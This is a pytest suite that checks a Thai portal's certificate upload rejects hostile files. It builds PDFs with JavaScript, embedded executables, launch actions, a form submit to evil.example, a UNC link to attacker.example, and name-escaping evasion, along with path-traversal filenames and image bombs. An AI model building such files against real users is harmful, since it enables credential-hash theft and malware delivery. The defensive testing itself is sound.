"""Hostile files through the real certificate form: wrong magic, fake and
scripted PDFs, polyglots, empty and oversize files, path-traversal and
Unicode names, and random bytes (hypothesis). A refused file gets a Thai
message beside its input and nothing is saved; a kept one is stored under
a random name inside UPLOAD_DIR and downloads as what it claims to be."""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from PIL.TiffImagePlugin import IFDRational
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from portal.models import Attachment, HeldFile, Request

from .conftest import login, make_agency, make_user
from .helpers.certificate import reference_from, submit_certificate
from .helpers.files import (
    EXE_BYTES,
    jpeg_header_only,
    make_jpg,
    make_pdf,
    make_png,
    png_bomb,
    png_header_only,
    raw_pdf,
    raw_pdf_packed,
    with_escaped_names,
)

THAI = re.compile("[\u0e01-\u0e2e]")


@pytest.fixture
def sender(app):
    make_agency("alpha")
    client = app.test_client()
    assert login(client, make_user()).status_code == 302
    return client


def _send(client, data: bytes, name: str = "สำเนาบัตร.pdf"):
    return submit_certificate(client, "alpha", file_id_card=(io.BytesIO(data), name))


def _refusal(response) -> str:
    assert response.status_code == 200, response.status_code
    errors = re.findall(r'<p class="error" id="file_id_card-error">(.*?)</p>',
                        response.get_data(as_text=True), re.S)
    assert errors and THAI.search(errors[0]), errors
    return errors[0]


def _stored_files(app) -> list[Path]:
    return [p for p in Path(app.config["UPLOAD_DIR"]).rglob("*") if p.is_file()]


def _left_behind(app) -> list[Path]:
    """Stored files of the refused upload: the form's good files are held for
    the person's next round (portal.requests.drafts), the refused one never is."""
    assert not HeldFile.select().where(HeldFile.slot == "id_card").exists()
    held = {h.stored_name for h in HeldFile.select()}
    return [p for p in _stored_files(app) if p.name not in held]


def _pdf_with(extra: bytes) -> bytes:
    """A PDF that really opens, with ``extra`` objects written into it that no
    cross-reference entry lists."""
    pdf = make_pdf()
    head, _sep, tail = pdf.partition(b"xref")
    start = int(re.search(rb"startxref\s+(\d+)", tail)[1])
    tail = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % (start + len(extra) + 1), tail)
    return head + extra + b"\nxref" + tail


SCRIPT_JS = b"3 0 obj << /Type /Action /S /JavaScript /JS (app.alert(1)) >> endobj\n"


@pytest.mark.parametrize("data, name, words", [
    (EXE_BYTES, "สำเนาบัตร.pdf", "รับเฉพาะไฟล์"),
    (b"", "empty.pdf", "ไฟล์ว่าง"),
    (b"%PDF-1.7\n<html><script>alert(1)</script></html>", "fake.pdf", "ไม่ใช่ไฟล์ PDF จริง"),
    (_pdf_with(SCRIPT_JS), "scripted.pdf", "สคริปต์"),
    (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "broken.png", "ไม่ใช่ไฟล์รูปภาพจริง"),
    (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "pic.png", "รับเฉพาะไฟล์"),
])
def test_refused_files_say_why_in_thai_and_leave_nothing(app, sender, data, name, words):
    r = _send(sender, data, name)
    message = _refusal(r)
    assert words in message, message
    assert Request.select().count() == 0 and Attachment.select().count() == 0
    assert _left_behind(app) == []


def test_size_limit_is_exact(app, sender):
    limit = app.config["MAX_UPLOAD_BYTES"]
    pdf = make_pdf()
    at_limit = pdf + b"%" + b"0" * (limit - len(pdf) - 2) + b"\n"
    assert len(at_limit) == limit
    assert _send(sender, at_limit).status_code == 302
    r = _send(sender, at_limit + b"0")
    assert "5 MB" in _refusal(r)
    assert Request.select().count() == 1


def test_a_picture_with_a_passenger_is_kept_without_it(app, sender):
    """A JPEG with a zip (or a script) after its end, and a GPS position in its
    metadata: the picture is kept, the passenger and the position are not."""
    photo = io.BytesIO()
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (IFDRational(13), IFDRational(45), IFDRational(0))}  # GPS
    Image.new("RGB", (32, 32), (10, 200, 10)).save(photo, format="JPEG", exif=exif)
    passenger = b"PK\x03\x04" + b"<script>alert(1)</script>" * 10
    r = _send(sender, photo.getvalue() + passenger, "รูปบ้าน.jpg")
    assert r.status_code == 302
    stored = _stored_files(app)
    assert len(stored) == 2  # the photo and the form's salary slip
    kept = next(p for p in stored if p.suffix == ".jpg").read_bytes()
    assert b"PK\x03\x04" not in kept and b"<script>" not in kept
    with Image.open(io.BytesIO(kept)) as image:
        assert image.size == (32, 32) and not image.getexif().get(0x8825)


@pytest.mark.parametrize("name, shown", [
    ("../../../../etc/passwd.pdf", "passwd.pdf"),
    # The multipart header reads a backslash as an escape: no path survives.
    ("..\\..\\windows\\win.ini.pdf", "windowswin.ini.pdf"),
    ("ใบเสร็จ ปี 2567 ✓.pdf", "ใบเสร็จ ปี 2567 ✓.pdf"),
    ("\u202etxt.exe.pdf", "txt.exe.pdf"),
    ("con\x00.pdf", "con.pdf"),
    ("ไม่มีนามสกุล", "ไม่มีนามสกุล.pdf"),
])
def test_file_names_cannot_walk_or_disguise(app, sender, name, shown):
    r = _send(sender, make_pdf(), name)
    assert r.status_code == 302
    attachment = Attachment.get(Attachment.slot == "id_card")
    assert attachment.original_name == shown
    root = Path(app.config["UPLOAD_DIR"]).resolve()
    for path in _stored_files(app):
        assert path.resolve().is_relative_to(root)
        assert re.fullmatch(r"[A-Za-z0-9_-]{20,64}\.(pdf|png|jpg)", path.name)
    download = sender.get(f"/files/{attachment.id}")
    assert download.status_code == 200 and download.data.startswith(b"%PDF")
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and "/" not in disposition.split(";", 1)[1]


@settings(max_examples=40, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(head=st.sampled_from([b"", b"%PDF-1.4\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0",
                             b"MZ", b"PK\x03\x04", b"GIF89a"]),
       body=st.binary(max_size=2048), name=st.text(max_size=80))
def test_random_bytes_under_any_name_never_crash_or_half_save(app, sender, head, body, name):
    before = Request.select().count(), len(_left_behind(app))
    r = _send(sender, head + body, name or "x")
    assert r.status_code in (200, 302)
    if r.status_code == 200:
        _refusal(r)
        assert (Request.select().count(), len(_left_behind(app))) == before


def test_each_kind_still_goes_through(app, sender):
    for data, name in ((make_pdf(), "a.pdf"), (make_png(), "b.png"), (make_jpg(), "c.jpg")):
        assert _send(sender, data, name).status_code == 302
    assert Request.select().count() == 3


@pytest.fixture
def decoded(monkeypatch) -> list[tuple[int, int]]:
    """Sizes of the pictures Pillow decoded during the test."""
    from PIL import ImageFile

    sizes: list[tuple[int, int]] = []
    load = ImageFile.ImageFile.load

    def spy(image):
        sizes.append(image.size)
        return load(image)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
    return sizes


@pytest.mark.parametrize("data, name, size", [
    # 144 MP: Pillow only warns (its limit is 89 MP); the pentest's bomb.
    (png_header_only(12000, 12000), "แผนที่บ้าน.png", (12000, 12000)),
    # 30 MP: past the portal's 25, short of Pillow's own limit.
    (png_header_only(6000, 5000), "แผนที่บ้าน.png", (6000, 5000)),
    (jpeg_header_only(12000, 12000), "รูปถ่าย.jpg", (12000, 12000)),
], ids=["png-144MP", "png-30MP", "jpeg-144MP"])
def test_too_many_pixels_is_refused_from_the_header(app, sender, decoded, data, name, size):
    """The pixel data of these files is cut short: decoding them would end in
    "damaged", so the pixel-count message proves the check never decoded."""
    message = _refusal(_send(sender, data, name))
    assert name in message and "ล้านพิกเซล" in message and "25" in message, message
    assert size not in decoded
    assert Request.select().count() == 0 and _left_behind(app) == []


def test_a_real_bomb_is_refused_without_decoding(app, sender, decoded):
    """A complete 12000 × 12000 picture of 1 bit a pixel: a few KB sent, at
    least 144 MB once decoded."""
    bomb = png_bomb(12000, 12000)
    assert len(bomb) < 50_000
    message = _refusal(_send(sender, bomb, "bomb.png"))
    assert "bomb.png" in message and "12,000 × 12,000" in message, message
    assert (12000, 12000) not in decoded
    assert Request.select().count() == 0 and _left_behind(app) == []


def test_pixel_limit_is_a_setting_and_exact(app, sender):
    app.config["MAX_UPLOAD_PIXELS"] = 1_000_000
    assert _send(sender, make_png((1000, 1000)), "at-limit.png").status_code == 302
    message = _refusal(_send(sender, make_png((1000, 1001)), "over.png"))
    assert "over.png" in message and "1 ล้านพิกเซล" in message, message
    assert Request.select().count() == 1


@pytest.mark.parametrize("size", [(12000, 12000), (20000, 20000)])
def test_pillows_own_bomb_limit_refuses_even_above_the_setting(app, sender, decoded, size):
    """A setting above Pillow's limit does not switch Pillow's off: its
    warning (over 89 MP) and its error (over 179 MP) are refusals too."""
    app.config["MAX_UPLOAD_PIXELS"] = 10**10
    message = _refusal(_send(sender, png_header_only(*size), "huge.png"))
    assert "huge.png" in message and "ล้านพิกเซล" in message, message
    assert size not in decoded
    assert _left_behind(app) == []



# ---- PDFs that run, launch, send or carry something ----------------------

def _name(text: str) -> NameObject:
    return NameObject(text)


def _action(kind: str, **entries: Any) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    action.update({_name(f"/{key}"): value for key, value in entries.items()})
    return action


def _annotation(writer: PdfWriter, subtype: str, **entries: Any) -> None:
    annotation = DictionaryObject({
        _name("/Type"): _name("/Annot"), _name("/Subtype"): _name(subtype),
        _name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 90, 40)])})
    annotation.update({_name(f"/{key}"): value for key, value in entries.items()})
    writer.add_annotation(0, annotation)


def _stream(writer: PdfWriter, data: bytes) -> Any:
    stream = DecodedStreamObject()
    stream.set_data(data)
    return writer._add_object(stream)  # pypdf has no public way to add a stream


def page_open_script(writer: PdfWriter) -> None:
    """What the pentest stored: JavaScript run when page 1 opens."""
    writer.pages[0][_name("/AA")] = DictionaryObject({
        _name("/O"): _action("/JavaScript", JS=TextStringObject("app.alert(1)"))})


def attached_exe(writer: PdfWriter) -> None:
    """The pentest's evil.exe, in the document's /Names /EmbeddedFiles."""
    writer.add_attachment("evil.exe", EXE_BYTES)


def exe_on_an_annotation(writer: PdfWriter) -> None:
    """A file carried by a paper-clip annotation: no name tree, and the
    stream has no /Type /EmbeddedFile."""
    spec = DictionaryObject({_name("/Type"): _name("/Filespec"),
                             _name("/F"): TextStringObject("evil.exe"),
                             _name("/EF"): DictionaryObject({
                                 _name("/F"): _stream(writer, EXE_BYTES)})})
    _annotation(writer, "/FileAttachment", FS=spec)


def launch_link(writer: PdfWriter) -> None:
    _annotation(writer, "/Link", A=_action("/Launch", F=TextStringObject("evil.exe")))


def xfa_form(writer: PdfWriter) -> None:
    template = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>"
    writer.root_object[_name("/AcroForm")] = DictionaryObject({
        _name("/Fields"): ArrayObject(), _name("/XFA"): _stream(writer, template)})


def submit_form(writer: PdfWriter) -> None:
    target = DictionaryObject({_name("/FS"): _name("/URL"),
                               _name("/F"): TextStringObject("https://evil.example/collect")})
    _annotation(writer, "/Link", A=_action("/SubmitForm", F=target))


def document_script(writer: PdfWriter) -> None:
    """JavaScript run when the document opens, from /Names /JavaScript."""
    scripts = ArrayObject([TextStringObject("start"),
                           _action("/JavaScript", JS=TextStringObject("app.alert(1)"))])
    writer.root_object[_name("/Names")] = DictionaryObject({
        _name("/JavaScript"): DictionaryObject({_name("/Names"): scripts})})


def remote_file_link(writer: PdfWriter) -> None:
    """A link to a file on another machine: on Windows opening a UNC path
    sends the clerk's sign-in hash to that machine."""
    _annotation(writer, "/Link", A=_action(
        "/GoToR", F=TextStringObject(r"\\attacker.example\share\x.pdf"),
        D=ArrayObject([NumberObject(0), _name("/Fit")])))


def open_action_link(writer: PdfWriter) -> None:
    """A web address opened as the file opens: the clerk's reader tells a
    stranger's server when and where the file was read."""
    writer.root_object[_name("/OpenAction")] = _action(
        "/URI", URI=TextStringObject("https://evil.example/seen"))


HOSTILE_PDFS = [page_open_script, attached_exe, exe_on_an_annotation, launch_link, xfa_form,
                submit_form, document_script, remote_file_link, open_action_link]
ACTIVE_NAMES = ("JavaScript", "JS", "AA", "OpenAction", "Launch", "EmbeddedFiles",
                "EmbeddedFile", "EF", "FileAttachment", "XFA", "SubmitForm", "GoToR")
PLAIN_ACTIVE = re.compile(rb"/(" + b"|".join(n.encode() for n in ACTIVE_NAMES)
                          + rb")(?=[\s/<>\[\]()%])")


def _built(build: Any) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize("escaped", [False, True], ids=["plain", "escaped"])
@pytest.mark.parametrize("build", HOSTILE_PDFS, ids=lambda build: build.__name__)
def test_active_pdfs_are_refused_however_the_names_are_spelt(app, sender, build, escaped):
    data = _built(build)
    if escaped:
        data = with_escaped_names(data, ACTIVE_NAMES)
        assert not PLAIN_ACTIVE.search(data)  # nothing left for a byte search
        assert len(PdfReader(io.BytesIO(data), strict=True).pages) == 1  # still a good PDF
    message = _refusal(_send(sender, data, "evil.pdf"))
    assert "สคริปต์" in message, message
    assert Request.select().count() == 0 and _left_behind(app) == []


def test_a_script_inside_a_compressed_object_stream_is_refused(app, sender):
    """The page-open script with every object packed and compressed: no
    name to find in the bytes, escaped or not."""
    data = raw_pdf_packed(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O 4 0 R >> >>",
        b"<< /S /JavaScript /JS (app.alert(1)) >>")
    assert not PLAIN_ACTIVE.search(data)
    assert "/AA" in PdfReader(io.BytesIO(data), strict=True).pages[0]
    assert "สคริปต์" in _refusal(_send(sender, data, "packed.pdf"))
    assert _left_behind(app) == []


def test_escaped_script_outside_the_object_table_is_refused(app, sender):
    """An object no cross-reference entry lists: pypdf never reads it, a
    reader that rebuilds a damaged file's table does."""
    hidden = b"3 0 obj << /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >> endobj\n"
    assert "สคริปต์" in _refusal(_send(sender, _pdf_with(hidden), "hidden.pdf"))
    assert _left_behind(app) == []


def _links_and_bookmarks(writer: PdfWriter) -> None:
    writer.add_uri(0, "https://www.example.go.th/", [10, 10, 90, 40])
    writer.add_outline_item(title="หน้าแรก", page_number=0)
    writer.open_destination = writer.pages[0]


def test_ordinary_pdfs_still_go_through(app, sender):
    """A link to a web page, a bookmark, a first page to open at; a page
    printed by WeasyPrint (object streams, Thai fonts); a scan whose image
    bytes happen to spell ``/JS``."""
    from portal.files.printing import render_pdf

    printed = render_pdf("<html><body><h1>หนังสือรับรอง</h1><p>ที่ น้ำ ผู้ใหญ่ "
                         "<a href='https://www.example.go.th/'>ลิงก์</a> "
                         "<a href='#two'>ข้อ 2</a></p><h2 id='two'>ข้อ 2</h2></body></html>")
    image = b"\xff\xd8\xff\xe0" + b"\x8a/JS \x13/Launch>" * 50 + b"\xff\xd9"
    scan = _pdf_with(b"9 0 obj << /Type /XObject /Subtype /Image /Width 1 /Height 1 "
                     b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode "
                     b"/Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(image), image))
    for data in (make_pdf(), _built(_links_and_bookmarks), printed, scan):
        assert _send(sender, data, "ok.pdf").status_code == 302
    assert Request.select().count() == 4


def test_a_pdf_the_portal_printed_goes_back_in(app, sender):
    """A citizen downloads the printed request and attaches it to the next."""
    reference = reference_from(_send(sender, make_pdf()))
    printed = sender.get(f"/requests/{reference}/print")
    assert printed.status_code == 200 and printed.mimetype == "application/pdf"
    assert _send(sender, printed.data, f"{reference}.pdf").status_code == 302


@pytest.fixture
def deadline():
    """Fail, rather than hang, if a check does not come back in 10 s."""
    import signal

    def expired(signum, frame):
        raise TimeoutError("the PDF check did not finish")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, 10)
    yield
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, previous)


def _mangled(pdf: bytes) -> bytes:
    """``pdf`` with the compressed data of its first stream overwritten."""
    start = pdf.index(b"stream\n") + len(b"stream\n") + 2  # past the zlib header
    return pdf[:start] + b"\x00" * 16 + pdf[start + 16:]


_PAGES = (b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
          b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>")


@pytest.mark.parametrize("data", [
    # An object that points at itself, and an action chain that comes back.
    raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /X 5 0 R >>", *_PAGES,
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>",
            b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] /Next 6 0 R /Self 5 0 R >>",
            b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>"),
    # Bookmarks in a ring.
    raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>", *_PAGES,
            b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] >>",
            b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
            b"<< /Title (a) /Parent 5 0 R /Next 6 0 R /Prev 6 0 R /First 6 0 R "
            b"/Dest [3 0 R /Fit] >>"),
], ids=["self-and-chain", "outline-ring"])
def test_looping_pdfs_are_walked_to_the_end(app, sender, deadline, data):
    assert _send(sender, data, "loop.pdf").status_code == 302


def test_a_script_at_the_end_of_a_loop_is_found(app, sender, deadline):
    data = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES,
                   b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>",
                   b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
                   b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] /Next [5 0 R 7 0 R] >>",
                   b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) /Next 5 0 R >>")
    assert "สคริปต์" in _refusal(_send(sender, data, "loop.pdf"))


def test_streams_left_open_do_not_stall_the_check(app, sender, deadline):
    """A good PDF with 4.5 MB of comment lines saying ``stream`` and no
    ``endstream``: skipping stream data must not read the rest of the file
    again for each one (a lazy regex took 4.5 s on 45 KB of them)."""
    data = _pdf_with(b"% stream\n" * 500_000)
    assert len(data) < app.config["MAX_UPLOAD_BYTES"]
    assert _send(sender, data, "open.pdf").status_code == 302


@pytest.mark.parametrize("data", [
    raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"),
    raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"42"),
    raw_pdf(b"(not a dictionary)"),
    _mangled(raw_pdf_packed(b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGES)),
    raw_pdf(b"<< /Type /Catalog /Pages 2 0 R " + b"<< /A " * 5000 + b">>" * 5000 + b" >>",
            *_PAGES),
    make_pdf()[:-40],
], ids=["page-tree-loop", "pages-not-a-dictionary", "catalogue-not-a-dictionary",
        "broken-object-stream", "nested-5000-deep", "cut-short"])
def test_pdfs_pypdf_cannot_read_are_refused_not_a_crash(app, sender, deadline, data):
    assert "ไฟล์ PDF" in _refusal(_send(sender, data, "broken.pdf"))
    assert _left_behind(app) == []
